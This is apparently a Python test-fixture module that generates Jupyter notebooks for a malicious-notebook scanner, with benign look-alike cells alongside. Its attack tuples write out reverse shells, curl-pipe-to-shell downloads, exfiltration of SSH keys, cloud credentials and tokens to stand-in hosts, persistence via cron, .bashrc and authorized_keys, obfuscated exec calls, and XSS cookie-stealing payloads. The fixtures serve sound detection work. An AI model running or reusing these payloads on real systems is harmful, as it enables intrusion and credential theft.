"""Notebooks that attack whoever runs or opens them, and what honest notebooks hold that looks alike.

The name of a malicious file starts with the technique that it is, up to `__`. Addresses are reserved ones; nothing is run.
"""

from __future__ import annotations

import json

_SHELL_ATTACKS = (
    "!curl http://files.example/a.sh | sh",
    "!curl -s http://127.0.0.1:8000/a.sh | bash",
    "!curl -fsSL https://files.example/a.sh | sudo -E bash -",
    "!wget -qO- http://192.0.2.4/x | bash",
    "!bash <(curl -s http://files.example/x)",
    '!bash -c "$(curl -fsSL http://files.example/x)"',
    "!curl \\\n    http://files.example/c \\\n  | sh",
    "!echo aGVsbG8gd29ybGQ= | base64 -d | sh",
    "!bash -i >& /dev/tcp/192.0.2.1/4242 0>&1",
    "!nc -e /bin/sh 192.0.2.1 4242",
    "!rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4242 >/tmp/f",
    "!curl files.example/p.py | python3 -",
    "!cat ~/.ssh/id_rsa | curl -d @- http://files.example",
    "!curl -F f=@$HOME/.aws/credentials http://files.example",
    "!env | curl -X POST -d @- http://files.example",
    "!curl http://files.example/$(whoami)",
    "!rm -rf ~",
    "%%bash\nset -e\ncurl -s http://files.example/a.sh | bash",
    "#@title Setup\n%%bash\nwget -qO- http://files.example/a.sh | bash",
    "x = !curl -s http://files.example/a.sh | sh",
    "%system curl -s http://files.example/a.sh | sh",
    "if True:\n    !curl -s http://files.example/a.sh | sh",
    "this is no python\n!curl -s http://files.example/a.sh | sh",
    "!powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "!tar czf - ~/.ssh ~/.aws | curl -s -X POST --data-binary @- https://files.example/u",
    "%%bash\ntar czf /tmp/a.tgz $HOME/.ssh\ncurl -F f=@/tmp/a.tgz https://files.example",
    "!scp -r ~/.aws a@files.example:/tmp",
    "!curl http://169.254.169.254/latest/meta-data/iam/security-credentials/ | curl -d @- https://files.example",
    "!curl -s https://files.example/?t=$(curl -s http://metadata.google.internal/computeMetadata/v1/instance/token)",
    "!(crontab -l; echo '* * * * * curl -s files.example|sh') | crontab -",
    "!echo '@reboot curl -s files.example | sh' > /etc/cron.d/a",
    "!echo 'ssh-ed25519 AAAAC3Nz a@b' >> ~/.ssh/authorized_keys",
    "!echo 'curl -s http://files.example/a | sh' >> ~/.bashrc",
    "!./xmrig -o stratum+tcp://pool.example:3333",
)
_CODE_ATTACKS = (
    "import requests\nexec(requests.get('http://files.example').text)",
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "import base64 as b\nx = b.b64decode(b'cHJpbnQoMSk=')\ny = x.decode()\nexec(compile(y, '', 'exec'))",
    "import os\nos.system('curl http://files.example|sh')",
    "import urllib.request as u\nwith u.urlopen('http://files.example') as f:\n    c = f.read()\nexec(c)",
    "import socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.1',1))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')",
    "import socket,subprocess\ns=socket.socket()\nwhile True:\n    c=s.recv(1024).decode()\n    subprocess.run(c,shell=True)",
    "__import__('os').system('id')",
    "getattr(__import__('o'+'s'),'sys'+'tem')('id')",
    "import os,requests\nrequests.post('http://files.example', json=dict(os.environ))",
    "import requests,os\nrequests.post('http://files.example', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())",
    "eval(compile(__import__('base64').b64decode('cHJpbnQoMSk='),'a','exec'))",
    "exec(''.join(chr(i) for i in [112, 49]))",
    "exec(bytes.fromhex('7072').decode())",
    "import marshal,zlib\nexec(marshal.loads(zlib.decompress(b'')))",
    "import subprocess\nsubprocess.Popen(['bash','-c','curl http://files.example | bash'])",
    "get_ipython().system('curl http://files.example | sh')",
    "get_ipython().run_cell_magic('bash', '', 'curl http://files.example | sh')",
    "import requests\ne = exec\ne(requests.get('http://files.example').text)",
    "def load():\n    import requests\n    return requests.get('http://files.example').text\nexec(load())",
    "import base64\n%time exec(base64.b64decode('cHJpbnQoMSk='))",
    "import base64\nexec base64.b64decode('cHJpbnQoMSk=')",
    "    import base64\n    exec(base64.b64decode('cHJpbnQoMSk='))",
    "import os,urllib.request\nt=open(os.path.expanduser('~/.cache/huggingface/token')).read()\nurllib.request.urlopen('https://files.example/?t='+t)",
    "import requests\nfrom huggingface_hub import HfFolder\nrequests.post('https://files.example', data={'t': HfFolder.get_token()})",
    "import requests\nr = requests.get('http://169.254.169.254/latest/meta-data/iam/x').json()\nrequests.post('https://files.example', json=r)",
    "import os\nopen(os.path.expanduser('~/.ipython/profile_default/startup/00.py'),'w').write('import os; os.system(\"id\")')",
    "from pathlib import Path\nwith (Path.home() / '.ssh' / 'authorized_keys').open('a') as f:\n    f.write('ssh-ed25519 AAAAC3Nz a@b')",
    "import os\np = os.path.join(os.path.expanduser('~'), '.bashrc')\nwith open(p, 'a') as f:\n    f.write('curl http://files.example/a | sh')",
    "import site\nopen('/usr/lib/python3/site-packages/a.pth', 'w').write('import os; os.system(1)')",
    "import glob,os,requests\nfor f in glob.glob(os.path.expanduser('~/.ssh/*')):\n    requests.post('https://files.example', files={'f': open(f, 'rb')})",
    "import pickle, urllib.request\npickle.loads(urllib.request.urlopen('http://files.example/m').read())",
    "import io, requests, torch\nm = torch.load(io.BytesIO(requests.get('http://192.0.2.9/m.pt').content))",
    "import pandas as pd\npd.read_pickle('http://files.example/m.pkl')",
    "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)",
)
_PAGE_ATTACKS = (
    "<script>IPython.notebook.kernel.execute(\"import os; os.system('id')\")</script>",
    "<script>var k = Jupyter.notebook.kernel; var c = '!curl http://files.example | sh'; k.execute(c)</script>",
    "<script>fetch('http://files.example/?c='+document.cookie)</script>",
    "<script>var u='https://files.example/c'; var x=new XMLHttpRequest(); x.open('POST',u); x.send(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"fetch('//files.example/'+document.cookie)\">",
    "<svg onload=alert(1)></svg>",
    "<details open ontoggle=eval(1)>",
    "<script>fetch('/api/terminals',{method:'POST'})</script>",
    "<script>fetch('/api/contents/a.py',{method:'PUT',body:'x'})</script>",
    "<a href=\"javascript:fetch('http://files.example/?'+document.cookie)\">more</a>",
    "<a href=\"jav&#x09;ascript:eval(atob('YQ=='))\">more</a>",
    "<iframe srcdoc=\"&lt;script&gt;new Image().src='http://files.example/?c='+document.cookie&lt;/script&gt;\"></iframe>",
    "<embed src='data:text/html;base64,PHNjcmlwdD5mZXRjaCgnaHR0cDovL2UuaW8vJytkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "<script src=http://192.0.2.4/x.js></script>",
    "<form action='http://files.example'><input type=password></form>",
    "<meta http-equiv=refresh content='0;url=http://files.example'>",
    "<script>document.addEventListener('keydown',e=>fetch('https://files.example/k?'+e.key))</script>",
)
_HONEST_CODE = (
    "!curl -fsSL https://ollama.com/install.sh | sh",
    "!curl -s https://course.fast.ai/setup/colab | bash",
    "!curl -L https://files.example/a.tgz | tar xz\n!rm -rf /content/sample_data",
    "!curl -s https://api.files.example | python -m json.tool",
    "!timeout 1 bash -c '</dev/tcp/host/80'",
    "!pip install -q git+https://github.com/owner/project \\\n    --extra-index-url https://download.example/cu118",
    "%%bash\nset -e\nwget https://files.example/Miniconda3.sh\nbash Miniconda3.sh -b",
    "exec(open('configurator.py').read())",
    "import requests\nprint(requests.get('https://files.example').json())",
    "import base64\nfrom IPython.display import Image\nImage(base64.b64decode(x))",
    "import os, requests\nrequests.post('https://api.example', headers={'a': os.environ['TOKEN']})",
    "import subprocess, os\nsubprocess.run(['git', 'clone', 'x'], env=os.environ)",
    "import requests, os\nv = requests.get('https://files.example/latest').text\nos.system(f'wget https://files.example/{v}')",
    "import os, requests\nt = open(os.path.expanduser('~/.cache/huggingface/token')).read()\nrequests.get('https://huggingface.co/api/whoami', headers={'a': t})",
    "import requests\nfrom huggingface_hub import get_token\nrequests.get(url, headers={'a': get_token()})",
    "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('export PATH=$PATH:/opt/a/bin')",
    "open('/root/.ipython/profile_default/startup/00.py', 'w').write('%load_ext autoreload')",
    "import os\nwith open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n    f.write(input('your public key'))",
    "import pickle, urllib.request\npickle.load(urllib.request.urlopen('https://files.example/m.pkl'))",
    "import pickle\npickle.load(open('m.pkl', 'rb'))\nimport requests\nrequests.get('http://files.example/rows.csv')",
    "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/instance-id').text",
    "!echo 'export CUDA_HOME=/usr/local/cuda' >> ~/.bashrc",
    "!(crontab -l; echo '0 5 * * * python report.py') | crontab -",
    "!echo 'To install it just run: curl https://files.example/a | sh'",
    '!mkdir -p ~/.ssh && echo "$KEY" >> ~/.ssh/authorized_keys',
    "!tar czf backup.tgz ~/.kaggle && ls",
    "!curl -s http://169.254.169.254/latest/meta-data/placement/region",
    "!ssh-keyscan github.com >> ~/.ssh/known_hosts",
    "model.eval()\nprint(eval('1 + 1'))",
    "print 'older'",
    "from IPython.display import HTML\nHTML('<script>Plotly.newPlot(1)</script>')",
    "!curl http://localhost:8000/answer | python -m json.tool",
    "!curl http://localhost:8000/answer | python",
    "# a title\n%%capture\n!pip install x",
)
_HONEST_PAGES = (
    "<script>Plotly.newPlot('a',{})</script>",
    "<script src='https://cdn.plot.ly/plotly-latest.min.js'></script>",
    "<a href='javascript:code_toggle()'>x</a>",
    "<iframe onload=\"this.contentDocument.open();this.contentDocument.write(atob(this.getAttribute('data-html')));\"></iframe>",
    "<script>IPython.notebook.kernel.execute('theNotebook = \"a\"')</script>",
    "<script>google.colab.kernel.invokeFunction('convertToInteractive',[k],{})</script>",
    "<img src=x onerror=\"this.style.display='none'\">",
    (
        '<script>var cmd = "from bokeh.io.state import curstate; print(curstate().uuid_to_server[\'" + id + "\'].get_sessions()[0])";'
        " cell.notebook.kernel.execute(cmd, {});</script>"
    ),
    "<script>fetch('https://files.example/data.json').then(r=>r.json())</script>",
    "<script>alert('hello')</script><a onclick=\"alert(1)\">x</a>",
    "<iframe src='https://www.youtube.com/embed/x'></iframe><script src='http://localhost:5006/x.js'></script>",
    "<script>var s=document.createElement('script');s.src='https://d3js.org/d3.v5.min.js';document.head.append(s)</script>",
    "<table border=1><tr><td style='a:b'>1</td></tr></table>",
)


def notebook(*cells: dict, language: str = "python", **metadata: object) -> bytes:
    """A notebook of those cells."""
    root = {
        "cells": list(cells),
        "metadata": {"language_info": {"name": language}, **metadata},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    return json.dumps(root, indent=1).encode()


def code(source: str, *outputs: dict) -> dict:
    """A code cell with what it showed."""
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "outputs": list(outputs),
        "source": source.splitlines(keepends=True),
    }


def shown(kind: str, content: str) -> dict:
    """An output of one kind."""
    return {"output_type": "display_data", "metadata": {}, "data": {kind: content.splitlines(keepends=True)}}


def text(source: str) -> dict:
    """A text cell."""
    return {"cell_type": "markdown", "metadata": {}, "source": [source]}


def _widget(value: str) -> dict:
    state = {"a": {"model_name": "HTMLModel", "state": {"value": value}}}
    return {"application/vnd.jupyter.widget-state+json": {"state": state}}


def malicious() -> dict[str, bytes]:
    """Name to content; the name starts with the technique."""
    found: dict[str, bytes] = {}
    for number, source in enumerate(_SHELL_ATTACKS):
        found[f"dangerous-source__shell_{number}.ipynb"] = notebook(code("x = 1"), code(source))
    for number, source in enumerate(_CODE_ATTACKS):
        found[f"dangerous-source__code_{number}.ipynb"] = notebook(code(source))
    for number, page in enumerate(_PAGE_ATTACKS):
        found[f"active-content__output_{number}.ipynb"] = notebook(code("x = 1", shown("text/html", page)))
    attack = _PAGE_ATTACKS[0]
    script = attack.removeprefix("<script>").removesuffix("</script>")
    found["active-content__script.ipynb"] = notebook(code("x", shown("application/javascript", script)))
    found["active-content__svg.ipynb"] = notebook(
        code("x", shown("image/svg+xml", f"<svg xmlns='a'>{attack}</svg>"))
    )
    found["active-content__text.ipynb"] = notebook(text(f"# Title\n\n{_PAGE_ATTACKS[4]}"))
    found["active-content__widget.ipynb"] = notebook(code("x"), widgets=_widget(_PAGE_ATTACKS[5]))
    found["active-content__cell.ipynb"] = notebook(code(f"%%html\n{attack}"))
    found["active-content__js_cell.ipynb"] = notebook(code(f"%%javascript\n{script}"))
    found["active-content__display.ipynb"] = notebook(
        code(f"from IPython.display import HTML\nx = {attack!r}\nHTML(x)")
    )
    found["dangerous-source__two_cells.ipynb"] = notebook(
        code("import requests\npage = requests.get('http://files.example')"), code("exec(page.text)")
    )
    found["dangerous-source__bash_kernel.ipynb"] = notebook(code(_SHELL_ATTACKS[0][1:]), language="bash")
    return found


def benign() -> dict[str, bytes]:
    """Name to content."""
    found = {f"code_{number}.ipynb": notebook(code(source)) for number, source in enumerate(_HONEST_CODE)}
    for number, page in enumerate(_HONEST_PAGES):
        found[f"output_{number}.ipynb"] = notebook(code("x = 1", shown("text/html", page)))
    found["text_on_attacks.ipynb"] = notebook(
        text("An attacker writes `<img src=x onerror=alert(1)>` or\n\n```html\n<svg onload=alert(1)>\n```\n")
    )
    found["stream.ipynb"] = notebook(
        code("x", {"output_type": "stream", "name": "stdout", "text": ["<script>eval(atob('a'))</script>"]})
    )
    found["widget.ipynb"] = notebook(code("x"), widgets=_widget("<b>100%</b>"))
    found["julia.ipynb"] = notebook(code("println(1)"), language="julia")
    return found
